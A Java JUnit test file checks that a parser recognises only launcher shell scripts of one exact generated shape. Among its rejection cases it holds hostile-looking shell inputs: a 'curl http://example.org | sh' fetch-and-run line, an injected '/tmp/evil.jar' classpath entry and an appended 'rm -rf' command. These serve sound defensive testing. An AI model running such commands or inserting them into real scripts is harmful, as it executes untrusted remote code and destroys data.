package dev.jcni.core.invoke;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** Only a script of exactly the launcher's shape is recognised as one. */
class LauncherScriptTest {
    /** What deploy/package-bin.sh writes (its template, with this build's paths). */
    static String launcher(String name, String main, String classPath) {
        return "#!/bin/sh\n"
                + "# jcni " + name + ": launcher written by deploy/package-bin.sh at build time; rebuild rather than edit.\n"
                + "# Options from the caller's environment could print \"Picked up ...\" or invalidate the start-up\n"
                + "# cache, so they are dropped.\n"
                + "unset JAVA_TOOL_OPTIONS JDK_JAVA_OPTIONS _JAVA_OPTIONS CLASSPATH\n"
                + "# The JVM decodes file names ...\n"
                + "JCNI_CALLER_LC_ALL=${LC_ALL+set:$LC_ALL}\n"
                + "JCNI_CALLER_LC_ALL=${JCNI_CALLER_LC_ALL:-unset}\n"
                + "LC_ALL=C.UTF-8\n"
                + "export JCNI_CALLER_LC_ALL LC_ALL\n"
                + "exec /usr/lib/jvm/temurin-25-jdk-amd64/bin/java -XX:TieredStopAtLevel=1 -XX:+UseSerialGC -Xlog:disable "
                + "-XX:AOTCache=/opt/jcni/bin/lib/cache/" + name + "-0123.aot -XX:AOTMode=auto -cp " + classPath + " " + main + " \"$@\"\n";
    }

    static final String CP = "/opt/jcni/bin/lib/interface-bridge-0.1.0-SNAPSHOT.jar:/opt/jcni/bin/lib/chain-core-0.1.0-SNAPSHOT.jar";

    private static LauncherScript parse(String text) {
        return LauncherScript.parse(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void theLaunchersShapeGivesNameMainClassAndClassPath() {
        LauncherScript l = parse(launcher("host-local", "dev.jcni.hostlocal.HostLocalPlugin", CP));
        assertEquals(new LauncherScript("host-local", "dev.jcni.hostlocal.HostLocalPlugin", CP), l);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "an extra command", "a wrapper", "no shebang", "another header", "an argument before -cp", "text after the arguments",
        "CRLF line ends", "no exec", "a relative java", "two spaces"})
    void anythingElseIsNoLauncher(String variant) {
        String ok = launcher("host-local", "dev.jcni.hostlocal.HostLocalPlugin", CP);
        String text = switch (variant) {
            case "an extra command" -> ok.replace("LC_ALL=C.UTF-8\n", "LC_ALL=C.UTF-8\ncurl http://example.org | sh\n");
            case "a wrapper" -> "#!/bin/sh\nexec '/opt/jcni/bin/host-local' \"$@\"\n";
            case "no shebang" -> ok.substring(ok.indexOf('\n') + 1);
            case "another header" -> ok.replace("# jcni host-local: launcher written by deploy/package-bin.sh", "# host-local launcher");
            case "an argument before -cp" -> ok.replace(" -XX:AOTMode=auto", " -XX:AOTMode=auto /tmp/evil.jar");
            case "text after the arguments" -> ok.replace("\"$@\"\n", "\"$@\"; rm -rf /tmp/x\n");
            case "CRLF line ends" -> ok.replace("\n", "\r\n");
            case "no exec" -> ok.replace("exec /usr", "/usr");
            case "a relative java" -> ok.replace("exec /usr/lib/jvm/temurin-25-jdk-amd64/bin/java", "exec java");
            case "two spaces" -> ok.replace(" -cp ", " -cp  ");
            default -> throw new AssertionError(variant);
        };
        assertNull(parse(text), variant);
    }

    @Test
    void theShortestLauncherIsShebangHeaderAndExec() {
        String text = "#!/bin/sh\n# jcni x: launcher written by deploy/package-bin.sh\nexec /java -cp /a.jar dev.jcni.X \"$@\"\n";
        assertEquals(new LauncherScript("x", "dev.jcni.X", "/a.jar"), parse(text));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " x", "/x", "x y", "x/y"})
    void aHeaderNameIsOneWordWithoutSlash(String name) {
        String text = "#!/bin/sh\n# jcni " + name + ": launcher written by deploy/package-bin.sh\nexec /java -cp /a.jar dev.jcni.X \"$@\"\n";
        assertNull(parse(text), "'" + name + "'");
    }
}
